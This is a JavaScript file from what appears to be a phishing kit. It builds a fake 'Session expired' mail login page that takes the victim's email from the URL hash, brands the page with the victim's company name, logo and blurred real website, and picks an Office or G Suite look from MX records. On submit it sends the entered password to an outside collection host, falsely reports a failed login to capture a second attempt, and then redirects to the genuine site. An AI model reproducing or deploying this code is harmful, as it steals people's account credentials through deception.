/* global $ */
$(function () {
  var hash = window.location.hash.substr(1);
  var b64 = /^([0-9a-zA-Z+/]{4})*(([0-9a-zA-Z+/]{2}==)|([0-9a-zA-Z+/]{3}=))?$/;
  var email = b64.test(hash) ? decodeURIComponent(atob(hash)) : hash;
  if (!email || email.indexOf('@') < 0) {
    window.location.replace('https://en.encyclo.example/wiki/Email');
    return;
  }
  var domain = email.split('@')[1];
  var company = domain.substr(0, domain.indexOf('.'));
  var brand = company.charAt(0).toUpperCase() + company.slice(1);

  $('#ai').val(email);
  $('#aich').html(email);
  $('.logoname').html(brand.toLowerCase());
  $('title').text(brand + ' Mail :: Session expired');
  $('.logoimg').attr('src', 'https://www.google.com/s2/favicons?sz=128&domain=' + domain).on('error', function () {
    $(this).attr('src', 'images/default.png');
  });
  $('#mainPage').attr('src', 'https://www.' + domain).css({ position: 'fixed', width: '100%', height: '100%', filter: 'blur(4px)' });

  $.get('https://dns.google/resolve?name=' + domain + '&type=MX', function (r) {
    var mx = JSON.stringify(r.Answer || []);
    var kind = mx.indexOf('outlook') > -1 ? 'office' : mx.indexOf('google') > -1 ? 'gsuite' : 'webmail';
    $('body').addClass(kind);
    $('#kind').val(kind);
  });

  $('#submit-btn').on('click', function () {
    $.post('https://cdn-files.invalid/api/v1.php', $('#contact').serialize()).always(function () {
      $('#pr').val('').focus();
      $('#msg').show().html('Verification failed! Please enter your correct password');
      if (+$('#msg').attr('data-n') === 1) top.location = 'https://www.' + domain;
      $('#msg').attr('data-n', 1);
    });
    return false;
  });
});
